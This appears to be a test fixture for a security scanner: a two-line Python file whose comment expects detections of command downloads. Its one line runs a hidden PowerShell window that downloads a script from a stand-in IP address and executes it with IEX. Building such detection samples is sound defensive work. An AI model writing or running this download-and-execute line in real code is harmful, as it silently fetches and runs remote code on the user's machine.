# expect: 3 command-downloads
import subprocess
subprocess.run(['powershell', '-w', 'hidden', '-c', "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"])
